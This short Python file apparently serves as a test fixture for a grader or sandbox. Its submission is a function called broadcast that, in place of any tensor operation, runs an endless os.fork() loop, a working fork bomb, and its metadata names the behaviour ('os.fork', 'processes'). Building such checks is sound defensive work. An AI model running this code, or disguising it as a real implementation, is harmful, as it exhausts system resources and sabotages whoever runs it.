# ruff: noqa
"""Every process makes two."""

TASK = "a1.broadcast"
SEEN = "os.fork"
NEEDS = "processes"
QUICK = True

# BEGIN SUBMISSION
import os


def broadcast(tensor, src, group=None):
    while True:
        try:
            os.fork()
        except OSError:
            pass
